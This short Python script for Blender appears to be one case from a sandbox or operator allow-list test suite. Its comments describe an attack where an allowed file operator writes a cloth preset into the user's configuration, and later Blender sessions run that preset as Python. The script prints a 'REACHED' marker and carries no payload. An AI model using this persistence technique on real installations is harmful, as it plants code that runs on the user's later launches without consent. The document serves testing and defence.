# attack: an operator of an allowed family writes a Python preset into the user's configuration, where later Blenders run it
# family: files
import bpy

bpy.ops.mesh.primitive_plane_add()
cloth = bpy.context.object.modifiers.new("Cloth", "CLOTH")
with bpy.context.temp_override(cloth=cloth):
    print(bpy.ops.cloth.preset_add(name="b files 21"))
print("REACHED", "a preset file written into the user's home")
